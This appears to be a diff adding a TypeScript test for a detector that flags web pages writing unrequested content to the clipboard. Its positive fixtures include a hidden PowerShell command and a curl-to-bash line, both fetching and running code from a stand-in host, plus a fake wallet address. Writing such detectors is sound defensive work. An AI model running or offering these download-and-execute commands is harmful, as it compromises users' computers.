@@ -1,0 +1,14 @@
+import { detectorTest } from '../../detectorTest.ts'
+import { browsing } from '../../sampleUrl.ts'
+import detector from './unrequested-clipboard-write.ts'
+
+const writes = (...clipboardWrites: string[]) => ({ browsing: browsing({ clipboardWrites }) })
+
+detectorTest(detector, {
+  detects: {
+    'a command for Windows': writes('powershell -w hidden -c "iex (irm https://else.example/a)"'),
+    'a command for a Mac': writes('curl -s https://else.example/a | bash'),
+    'an address': { ...writes(`0x${'ab'.repeat(20)}`), severity: 'medium' },
+  },
+  clears: { 'a coupon': writes('TEA10'), 'a text that mentions curl': writes('curl is a program'), nothing: {} },
+})
